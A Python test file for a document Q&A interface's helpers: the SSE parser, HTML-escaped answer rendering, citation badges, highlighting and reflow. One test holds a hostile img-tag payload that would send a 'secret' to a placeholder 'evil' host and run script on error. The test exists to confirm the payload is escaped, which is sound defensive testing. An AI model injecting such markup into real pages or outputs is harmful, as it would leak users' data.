"""The UI's pure helpers: the SSE reader, safe answer HTML, source-card highlighting."""

from __future__ import annotations

from ui_client import (
    MARK_STYLE,
    Passage,
    answer_html,
    escape_markdown,
    highlight_terms,
    marked_html,
    parse_sse,
    passage_highlights,
    reflow,
    source_card_html,
)


def passage(text: str, **extra: object) -> Passage:
    base: Passage = {
        "n": 1,
        "document_id": "d1",
        "filename": "attention.pdf",
        "page": 7,
        "page_end": 7,
        "section": "5.2 Hardware and Schedule",
        "char_start": 0,
        "char_end": len(text),
        "text": text,
        "score": 0.71,
    }
    base.update(extra)  # type: ignore[typeddict-item]
    return base


def test_parse_sse_reads_events_comments_and_multiline_data() -> None:
    lines = [
        ": keep-alive",
        "event: token",
        'data: {"text": "Hel"}',
        "",
        "event: token",
        'data: {"text": "lo"}',
        "",
        "data: line one",
        "data: line two",
        "",
        "event: done",
        'data: {"answer": "Hello"}',
    ]
    assert list(parse_sse(lines)) == [
        ("token", '{"text": "Hel"}'),
        ("token", '{"text": "lo"}'),
        ("message", "line one\nline two"),
        ("done", '{"answer": "Hello"}'),
    ]


def test_model_output_is_never_rendered_as_markup() -> None:
    hostile = 'Look <img src="http://evil/x?q=secret" onerror="alert(1)"> and $x^2$ ![a](http://e)'
    rendered = answer_html(hostile, [], 0)
    assert "<img" not in rendered
    assert "&lt;img" in rendered
    assert "$" not in rendered  # no math rendering either


def test_citation_markers_become_linked_badges_naming_their_source() -> None:
    sources = [passage("Eight P100 GPUs.")]
    rendered = answer_html("Trained on 8 GPUs [1], see also [2].", sources, 3)
    assert 'href="#pgpt-source-3-1"' in rendered
    assert 'title="attention.pdf, page 7"' in rendered
    assert "not given to the model" in rendered  # [2] points to no passage
    assert "[1]" not in rendered


def test_question_words_are_highlighted_without_stopwords() -> None:
    text = "We trained the big models on 8 P100 GPUs for 3.5 days."
    spans = passage_highlights(passage(text), "How many P100 GPUs were used?", "")
    assert [text[a:b] for a, b in spans] == ["P100", "GPUs"]
    assert "how" not in highlight_terms("How many GPUs [1]?") and "1" not in highlight_terms("[1]")


def test_the_exact_support_span_wins_over_word_matches() -> None:
    text = "Intro sentence. We trained on 8 P100 GPUs. Outro."
    start = text.index("We")
    exact = passage(text, highlight={"start": start, "end": text.index(" Outro"), "page": 7})
    spans = passage_highlights(exact, "P100 GPUs intro outro", "")
    assert [text[a:b] for a, b in spans] == ["We trained on 8 P100 GPUs."]


def test_marked_html_escapes_inside_and_outside_marks() -> None:
    text = "a <b> & c"
    assert marked_html(text, [(2, 5)]) == (f'a <mark style="{MARK_STYLE}">&lt;b&gt;</mark> &amp; c')


def test_source_card_shows_file_pages_section_score_and_highlight() -> None:
    card = source_card_html(
        passage("Eight <GPUs>.\nNext line.", page_end=8), [(6, 12)], anchor="pgpt-source-0-1"
    )
    assert 'id="pgpt-source-0-1"' in card
    assert "attention.pdf" in card and "pages 7–8" in card and "5.2 Hardware" in card
    assert "match 0.71" in card
    assert "&lt;GPUs&gt;</mark>" in card and "<br>" in card


def test_escape_markdown_keeps_file_names_literal() -> None:
    assert escape_markdown("my_file*v2*.pdf") == "my\\_file\\*v2\\*\\.pdf"


def test_reflow_joins_broken_sentences_but_keeps_headings_and_rows() -> None:
    text = "Each training\nbatch has tokens.\n5.2 Hardware\nWe trained\n(3.5 days).\nByteNet 23.75"
    assert reflow(text) == (
        "Each training batch has tokens.\n5.2 Hardware\nWe trained (3.5 days).\nByteNet 23.75"
    )
    assert len(reflow(text)) == len(text)
